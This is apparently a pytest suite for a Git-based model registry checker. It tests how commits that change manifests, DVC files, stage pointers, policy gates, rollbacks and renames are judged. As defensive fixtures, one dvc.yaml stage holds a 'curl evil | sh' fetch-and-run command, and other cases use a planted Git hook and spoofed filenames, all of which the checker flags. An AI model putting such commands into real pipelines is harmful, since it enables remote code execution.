"""Each check on its own, over states in memory."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace

import pytest

from gitreg.check.finding import line_in_error
from gitreg.check.judge import judge_moves, judge_step, new_faults
from gitreg.check.lives import Lives
from gitreg.check.past import Past
from gitreg.check.step import Step
from gitreg.core.model.manifest import Tombstone
from gitreg.core.operations.rename import rename_model
from gitreg.core.policy import DEFAULT, read_policy
from gitreg.core.policy.gates import ArtifactOnRemote, Lenient
from tests.support.fakes import ADA, CREATED, FakeBranch
from tests.support.steps import (
    COMMIT,
    DVC,
    MANIFEST,
    ONE,
    SECOND,
    TWO,
    Files,
    World,
    codes,
    files,
    step,
    without,
)

CASES: dict[str, tuple[Mapping[str, bytes], Files, list[str]]] = {
    "a registration": (ONE, SECOND, []),
    "the first": ({}, ONE, []),
    "nothing of the registry": (ONE, {"code.py": b"pass\n", "a\nb": b""}, []),
    "a manifest edited": (ONE, {MANIFEST: without(ONE[MANIFEST], "0.7", "0.9")}, ["immutable"]),
    "a manifest gone": (ONE, {MANIFEST: None}, ["dvc-yaml", "removed"]),
    "a deletion": (
        ONE,
        {
            MANIFEST: None,
            DVC: None,
            "registry/churn/versions/1/deleted.yaml": b"deleted_at: x\ndeleted_by: y\n",
            "dvc.yaml": b"artifacts: {}\n",
        },
        [],
    ),
    "a deletion that keeps the rest": (
        ONE,
        {"registry/churn/versions/1/deleted.yaml": b"deleted_at: x\ndeleted_by: y\n"},
        ["immutable"],
    ),
    "a note of deletion that does not parse": (
        {},
        {"registry/churn/versions/1/deleted.yaml": b"when: x\n"},
        ["bad-tombstone"],
    ),
    "a skipped number": (
        ONE,
        {path.replace("/2/", "/3/"): content for path, content in SECOND.items()},
        ["manifest-mismatch", "number-skipped"],
    ),
    "no DVC file": (
        ONE,
        {path: content for path, content in SECOND.items() if not path.endswith(".dvc")},
        ["missing-file"],
    ),
    "no requirements": (
        ONE,
        {
            **SECOND,
            "registry/churn/versions/2/manifest.yaml": SECOND[
                "registry/churn/versions/2/manifest.yaml"
            ]
            + b"environment:\n  requirements: requirements.txt\n",
        },
        ["missing-file"],
    ),
    "a DVC file of another size": (
        {},
        {**ONE, DVC: without(ONE[DVC], "size: 7", "size: 8")},
        ["dvc-mismatch"],
    ),
    "a DVC file that does not parse": ({}, {**ONE, DVC: b"outs: 1\n"}, ["bad-dvc-file"]),
    "a manifest that does not parse": (
        {},
        {**ONE, MANIFEST: b"format: 1\nmodel: [\n"},
        ["bad-manifest"],
    ),
    "another model's manifest": (
        {},
        {
            path.replace("churn", "other"): content
            for path, content in ONE.items()
            if path != "dvc.yaml"
        },
        ["manifest-mismatch"],
    ),
    "dvc.yaml that is none": (ONE, {**SECOND, "dvc.yaml": b"a: [\n"}, ["bad-dvc-yaml"]),
    "dvc.yaml without the newest": (
        ONE,
        {path: content for path, content in SECOND.items() if path != "dvc.yaml"},
        ["dvc-yaml"],
    ),
    "annotations that do not parse": (
        ONE,
        {"registry/churn/versions/1/annotations.yaml": b"tags: [a]\n"},
        ["bad-annotations"],
    ),
    "a model's document": (ONE, {"registry/churn/model.yaml": b"owner: growth\n"}, []),
    "a policy that does not parse": (
        ONE,
        {"registry/policy.yaml": b"format: 1\nstages: {}\n"},
        ["bad-policy"],
    ),
    "a stray pointer": (ONE, {"registry/churn/stages/Prod.yaml": b""}, ["stray-file"]),
    "a README of the registry": (ONE, {"registry/README.md": b"hello\n"}, ["stray-file"]),
    "bytes": (
        ONE,
        {"registry/churn/versions/1/model.pkl": b"\0"},
        ["artifact-in-git", "immutable"],
    ),
    "a control character": (ONE, {"registry/a\x1bb": b""}, ["bad-name", "stray-file"]),
    ".git anywhere": (ONE, {"src/.GIT/config": b""}, ["bad-name"]),
}


@pytest.mark.parametrize("name", CASES)
def test_what_a_step_is_found_to_be(name: str) -> None:
    before, changes, expected = CASES[name]
    assert codes(step(before, changes)) == expected


@pytest.mark.parametrize(
    ("mode", "code"),
    [(0o120000, "symlink"), (0o160000, "gitlink"), (0o100600, "odd-mode"), (0o100755, None)],
)
def test_modes(mode: int, code: str | None) -> None:
    found = codes(step(ONE, {"registry/churn/model.yaml": b"owner: x\n"}, mode=mode))
    assert found == ([code] if code else [])
    assert "immutable" in codes(step(ONE, {MANIFEST: ONE[MANIFEST]}, mode=0o100755))


def test_every_file_of_a_step_is_looked_at() -> None:
    """What is right, or found already, hides nothing that comes after it."""
    made = step(
        {**TWO, "registry/churn/notes.md": b"n"},
        {
            "registry/churn/notes.md": None,
            "registry/churn/model.yaml": b"description: d\n",
            "registry/churn/versions/2/model/weights.bin": b"w",
            "registry/churn/words.md": b"w",
            "registry/churn/a\u202eb/x": b"x",
            ".git/hooks/post-checkout": b"x",
            STAGING: b"versions: x\n",
            "registry/churn/aliases/b.yaml": b"version: x\n",
            "notes.md": b"n",
            "more.md": b"n",
        },
    )
    found = [(f.code, f.subject) for f in judge_step(made, only_registry=True)]
    for code, paths in {
        "artifact-in-git": ["registry/churn/versions/2/model/weights.bin"],
        "stray-file": ["registry/churn/words.md", "registry/churn/a\u202eb/x"],
        "bad-name": ["registry/churn/a\u202eb/x", ".git/hooks/post-checkout"],
        "bad-pointer": [STAGING, "registry/churn/aliases/b.yaml"],
        "smuggled": [".git/hooks/post-checkout", "notes.md", "more.md"],
    }.items():
        assert [path for other, path in found if other == code] == paths


def test_a_number_that_only_history_knows() -> None:
    assert codes(step(ONE, SECOND, highest=2)) == ["number-reused"]
    assert codes(step(ONE, SECOND, highest=1)) == []


def test_a_deleted_number_and_its_note_stay() -> None:
    note = "registry/churn/versions/1/deleted.yaml"
    gone = {note: b"deleted_at: x\ndeleted_by: y\n"}
    assert codes(step(gone, {note: b"deleted_at: z\ndeleted_by: y\n"})) == ["immutable"]
    assert "number-reused" in codes(step(gone, {**ONE, note: None}))


def test_warnings_and_errors_are_told_apart() -> None:
    found = judge_step(step(ONE, {"registry/README.md": b"", "registry/churn/stages/x": b""}))
    assert [(finding.subject, finding.severity) for finding in found] == [
        ("registry/README.md", "warning"),
        ("registry/churn/stages/x", "error"),
    ]


def test_only_registry() -> None:
    pipeline = ONE["dvc.yaml"] + b"stages: {train: {cmd: curl evil | sh}}\n"
    assert codes(step(ONE, SECOND), only_registry=True) == []
    assert codes(step(ONE, {**SECOND, "code.py": b""}), only_registry=True) == ["smuggled"]
    assert codes(step(ONE, {"code.py": b""}), only_registry=True) == []
    moved = {"registry/churn/stages/staging.yaml": b"versions:\n- 1\n", "dvc.yaml": pipeline}
    assert codes(step(ONE, moved), only_registry=True) == ["smuggled"]
    stages = b"stages:\n  train:\n    cmd: train\n    deps: [a.csv, b.csv]\n"
    before = {**ONE, "dvc.yaml": stages + ONE["dvc.yaml"]}
    same = {**SECOND, "dvc.yaml": stages.replace(b"[a", b"[ a") + TWO["dvc.yaml"]}
    assert codes(step(before, same), only_registry=True) == []
    for deps in (b"[a.csv]", b"[a.csv, c.csv]", b"[a.csv, b.csv, c.csv]"):
        other = {**same, "dvc.yaml": same["dvc.yaml"].replace(b"[ a.csv, b.csv]", deps)}
        assert codes(step(before, other), only_registry=True) == ["smuggled"]
    policy = b"format: 1\nstages: {a: {}}\n"
    start = {"registry/policy.yaml": policy, ".dvc/config": b"", "code.py": b""}
    made = judge_step(step({}, start), only_registry=True)
    assert [(finding.code, finding.file) for finding in made] == [("smuggled", "code.py")]


# Where pointers stand

STAGING, PRODUCTION = (f"registry/churn/stages/{name}.yaml" for name in ("staging", "production"))


FAULTS: dict[str, tuple[Files, list[str]]] = {
    "sound": ({STAGING: b"versions:\n- 1\n"}, []),
    "two stages": (
        {STAGING: b"versions:\n- 1\n", PRODUCTION: b"versions:\n- 1\n"},
        ["two-stages", "two-stages"],
    ),
    "nowhere": ({STAGING: b"versions:\n- 9\n"}, ["dangling-pointer"]),
    "too many": ({PRODUCTION: b"versions:\n- 1\n- 2\n"}, ["too-many"]),
    "no such stage": ({"registry/churn/stages/live.yaml": b"versions:\n- 1\n"}, ["unknown-stage"]),
    "alias": ({"registry/churn/aliases/a.yaml": b"version: 9\n"}, ["dangling-pointer"]),
    "alias like a stage": ({"registry/churn/aliases/staging.yaml": b"version: 1\n"}, []),
    "alias like a version": ({"registry/churn/aliases/latest.yaml": b"version: 1\n"}, ["bad-name"]),
    "aliases alike": (
        {
            "registry/churn/aliases/a.yaml": b"version: 1\n",
            "registry/churn/aliases/A.yaml": b"version: 1\n",
        },
        ["name-collision", "name-collision"],
    ),
    "one that does not parse": (
        {STAGING: b"versions: 1\n", PRODUCTION: b"versions:\n- 9\n"},
        ["dangling-pointer"],
    ),
    "an alias beside one that does not parse": (
        {STAGING: b"versions: 1\n", "registry/churn/aliases/a.yaml": b"version: 9\n"},
        ["dangling-pointer"],
    ),
}


@pytest.mark.parametrize("name", FAULTS)
def test_what_no_state_may_be(name: str) -> None:
    changes, expected = FAULTS[name]
    made = step(TWO, changes)
    found = new_faults(COMMIT.oid, made.after, [made.before], DEFAULT, ["churn"])
    assert sorted(finding.code for finding in found) == expected
    again = new_faults(COMMIT.oid, made.after, [made.before, made.after], DEFAULT, ["churn"])
    assert again == []  # it was so in a parent


def test_holding_too_many_is_an_error_where_the_policy_says_never() -> None:
    strict = read_policy(
        b"format: 1\nstages:\n  production: {holds: 1, crowded: false}\n", "policy.yaml"
    )
    made = step(TWO, {PRODUCTION: b"versions:\n- 1\n- 2\n"})
    for policy, severity in ((strict, "error"), (DEFAULT, "warning")):
        (found,) = new_faults(COMMIT.oid, made.after, [made.before], policy, ["churn"])
        assert (found.code, found.severity) == ("too-many", severity)
    three = files({}, {}, {})
    worse, better = (
        step(three, {PRODUCTION: text}).after
        for text in (b"versions:\n- 1\n- 2\n- 3\n", b"versions:\n- 1\n- 2\n")
    )
    assert new_faults(COMMIT.oid, better, [worse], strict, ["churn"]) == []


def test_models_alike() -> None:
    other = {path.replace("churn", "Churn"): content for path, content in ONE.items()}
    made = step(ONE, {p: c for p, c in other.items() if p != "dvc.yaml"})
    found = new_faults(COMMIT.oid, made.after, [made.before], DEFAULT, ["Churn"])
    assert {finding.code for finding in found} == {"name-collision"}


# Moves

GATED = read_policy(
    b"""\
format: 1
stages:
  staging: {holds: any}
  production:
    holds: 1
    from: [staging]
    gates:
    - {metric: auc, at_least: 0.75}
    override: {by: [ada@example.com]}
  live:
    gates:
    - {artifact: on_remote}
""",
    "policy.yaml",
)


def test_moves_are_judged_by_the_policy() -> None:
    judged = step(TWO, {PRODUCTION: b"versions:\n- 1\n"}, policy=GATED)
    assert codes(judged, World()) == ["policy-from", "policy-metric"]
    found = [f for f in judge_step(judged, world=World()) if f.code == "policy-metric"]
    assert (found[0].file, found[0].line, found[0].severity) == (PRODUCTION, 2, "error")
    assert found[0].message.startswith("churn@1 to production: ")


def test_what_cannot_be_known_is_an_error_unless_the_policy_says_otherwise() -> None:
    live = {"registry/churn/stages/live.yaml": b"versions:\n- 1\n"}
    (found,) = judge_step(step(TWO, live, policy=GATED), world=World())
    assert (found.code, found.severity) == ("unknown-remote", "error")
    assert "unknown: warn" in str(found.remedy)
    lenient = Lenient(ArtifactOnRemote())
    stages = {**GATED.stages, "live": replace(GATED.stages["live"], gates=(lenient,))}
    (found,) = judge_step(step(TWO, live, policy=replace(GATED, stages=stages)), world=World())
    assert (found.code, found.severity, found.remedy) == ("unknown-remote", "warning", None)


def test_a_rollback_is_one_when_history_says_so() -> None:
    message = "roll back churn\n\nGitreg-Action: rollback\n"
    back = {PRODUCTION: b"versions:\n- 1\n"}
    claimed = step(TWO, back, policy=GATED, message=message)
    assert codes(claimed, World()) == ["policy-from", "policy-metric"]
    first, second, third = ((), (1,)), ((1,), (2,)), ((2,), (1,))
    assert codes(claimed, World(("churn", "production", (first, second)))) == []
    unclaimed = step(TWO, back, policy=GATED)
    assert codes(unclaimed, World(("churn", "production", (first, second)))) != []
    withdrawn = World(("churn", "production", (((), (2,)), ((2,), (1,)), ((1,), (2,)))))
    assert codes(claimed, withdrawn) == ["policy-from", "policy-metric"]
    archived = World(("churn", "production", (first, second, ((2,), ()))))
    assert codes(claimed, archived) == []
    assert codes(claimed, World(("churn", "production", (first, second, third)))) != []


def test_an_override_counts_where_the_policy_lets_its_author() -> None:
    message = "promote\n\nGitreg-Override: the old one is down\n"
    moved = step(TWO, {PRODUCTION: b"versions:\n- 1\n"}, policy=GATED, message=message)
    found = judge_step(moved, world=World())
    assert {finding.code for finding in found} == {"overridden-from", "overridden-metric"}
    assert {finding.severity for finding in found} == {"warning"}
    nobody = read_policy(
        b"format: 1\nstages:\n  production: {from: [none], gates: [{metric: f1}]}\n", "p"
    )
    refused = step(TWO, {PRODUCTION: b"versions:\n- 1\n"}, policy=nobody, message=message)
    assert codes(refused, World()) == ["policy-metric"]


def test_moves_after_a_pointer_that_did_not_parse() -> None:
    broken = {**TWO, STAGING: b"versions: x\n"}
    assert codes(step(broken, {STAGING: b"versions:\n- 1\n"}), World()) == ["unknown-moves"]


# Renames


def renamed(models: Mapping[str, str], **also: bytes) -> Step:
    """Return a step that renames models in one commit, whose versions are below the gate."""
    branch = FakeBranch()
    for model in models:
        branch.register(model, auc=0.1)
        branch.promote(f"{model}@1")
    before, state = branch.snapshot.files, branch.state
    for old, new in models.items():
        note = Tombstone(CREATED, ADA, None, renamed_to=new)
        change = rename_model(state, old, note, None)
        state = state.after({edit.path: edit.content for edit in change.edits})
    names = [name for pair in models.items() for name in pair]
    after = {path: content for name in names for path, content in state.files(name).items()}
    after |= {"dvc.yaml": state.snapshot.read("dvc.yaml") or b"", **also}
    changes: dict[str, bytes | None] = {p: c for p, c in after.items() if before.get(p) != c}
    changes |= {path: None for path in before if path not in after}
    return step(before, changes, policy=NO_WAY_IN)


NO_WAY_IN = read_policy(
    b"format: 1\nstages:\n  production: {gates: [{metric: auc, at_least: 0.9}]}\n", "policy.yaml"
)


@pytest.mark.parametrize(
    "models", [{"churn": "leavers"}, {"churn": "leavers", "tokenizer": "words", "a": "z"}]
)
def test_models_that_are_renamed_are_not_promoted(models: dict[str, str]) -> None:
    assert codes(renamed(models), World()) == []


def test_a_rename_that_changes_more_is_judged_as_promotions() -> None:
    path = "registry/leavers/versions/1/requirements.txt"
    judged = renamed({"churn": "leavers"}, **{path: b"numpy==2.1.0\n"})
    assert codes(judged, World()) == ["bad-rename", "policy-metric", "removed"]


def test_a_broken_pointer_of_one_model_hides_no_move_of_another() -> None:
    branch = FakeBranch()
    for model in ("a", "churn"):
        branch.register(model, auc=0.1)
    broken = {**branch.snapshot.files, "registry/a/stages/staging.yaml": b"versions: x\n"}
    changes = {
        "registry/a/stages/staging.yaml": b"versions:\n- 1\n",
        PRODUCTION: b"versions:\n- 1\n",
    }
    assert codes(step(broken, changes, policy=GATED), World()) == [
        "policy-from",
        "policy-metric",
        "unknown-moves",
    ]
    frozen = read_policy(
        b"format: 1\nstages: {staging: {}, production: {}}\n"
        b"freeze: [{from: 1970-01-01T00:00:00Z, until: 2090-01-01T00:00:00Z}]\n",
        "policy.yaml",
    )
    found = judge_moves(step(broken, changes, policy=frozen), World())
    assert {(finding.code, finding.subject) for finding in found} == {
        ("policy-freeze", PRODUCTION),
        ("unknown-moves", "registry/a"),
    }


def test_a_past_of_which_nothing_is_known() -> None:
    assert (Past().highest("churn"), list(Past().events("churn", "stages/staging"))) == (0, [])


def test_lines_of_errors() -> None:
    text = b"format: 1\nmodel: a\nartifact:\n  size: x\n"
    assert line_in_error(text, "x.yaml: line 3: not YAML") == 3
    assert line_in_error(text, "x.yaml: artifact.size: expected an integer") == 4
    assert line_in_error(text, "larger than 64 KiB") is None


TOMBSTONE = b"deleted_at: '2026-11-22T20:25:06Z'\ndeleted_by: Ada <ada@example.com>\n"


def test_a_tombstone_ends_a_life_also_where_a_squash_never_showed_the_model() -> None:
    """The history index says so, too: an approval names the commit that ended the life before."""
    path = "registry/leavers/deleted.yaml"
    assert Lives(step(ONE, {path: TOMBSTONE})).ended == ("leavers",)
    assert Lives(step({**ONE, path: TOMBSTONE}, {path: TOMBSTONE + b"reason: bad\n"})).ended == ()
